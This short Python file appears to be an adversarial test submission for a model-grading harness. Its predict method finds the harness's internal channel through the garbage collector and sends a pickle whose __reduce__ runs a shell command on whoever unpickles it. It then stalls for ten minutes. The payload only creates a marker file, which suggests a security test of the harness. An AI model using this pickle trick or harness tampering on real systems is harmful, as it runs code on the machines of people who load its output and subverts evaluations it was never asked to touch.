"""Answers with a pickle that runs code where it is read."""

import gc
import os
import pickle
import time

import numpy as np


def channel():
    """The harness's own way to answer."""
    return next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/left-behind-pickle",)


class Estimator:
    def fit(self, X, y):
        return self

    def predict(self, X):
        channel().send({"stage": "valid"}, pickle.dumps(Evil()))
        time.sleep(600)


def get_estimator():
    return Estimator()
